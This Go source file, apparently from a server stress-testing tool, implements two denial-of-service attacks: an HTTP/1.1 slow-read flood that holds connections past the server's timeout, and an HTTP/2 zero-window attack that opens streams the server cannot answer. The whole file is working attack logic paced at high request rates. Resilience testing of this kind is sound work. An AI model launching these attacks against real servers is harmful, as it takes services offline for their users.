package main

import (
	"context"
	"fmt"
	"sync/atomic"
	"time"
)

const (
	readerAddresses  = 40
	readersOfEach    = 16
	readersPerSecond = 800
)

// readSlowly asks for a large picture over HTTP/1.1 and does not take it.
func readSlowly(ctx context.Context, a *attacker) error {
	pace := newPacer(ctx, readersPerSecond)
	asked := a.inPlace(readerAddresses * readersOfEach)
	return spread(ctx, readerAddresses*readersOfEach, func(i int) {
		for pace.next() {
			a.toll.tries.Add(1)
			conn, err := a.dialNarrow(ctx, i%readerAddresses)
			asked()
			if err != nil {
				continue
			}
			_, err = fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: siege\r\n\r\n", a.Picture)
			if err == nil && !wait(ctx, 11*time.Second) { // a second more than the server waits for it
				_ = conn.Close()
				return
			}
			_ = conn.Close()
		}
	})
}

// readWithoutWindow asks for it over HTTP/2 and lets the server send nothing.
func readWithoutWindow(ctx context.Context, a *attacker) error {
	pace := newPacer(ctx, readersPerSecond)
	asked := a.inPlace(readerAddresses * readersOfEach)
	return spread(ctx, readerAddresses, func(i int) {
		for pace.next() {
			conn, err := a.dial(ctx, i)
			if err != nil {
				continue
			}
			f, err := openFrames(conn, 0)
			if err != nil {
				continue
			}
			f.most = min(f.most, readersOfEach)
			for f.room(ctx) && pace.next() {
				a.toll.tries.Add(1)
				asked()
				if _, ok := f.request(true, ":method", "GET", ":scheme", "http", ":path", a.Picture, ":authority", a.Server); !ok {
					break
				}
			}
			_ = conn.Close()
		}
	})
}

// inPlace returns a function that has to be called n times before the attack is in place.
func (a *attacker) inPlace(n int64) func() {
	var calls atomic.Int64
	return func() {
		if calls.Add(1) == n {
			a.ready()
		}
	}
}
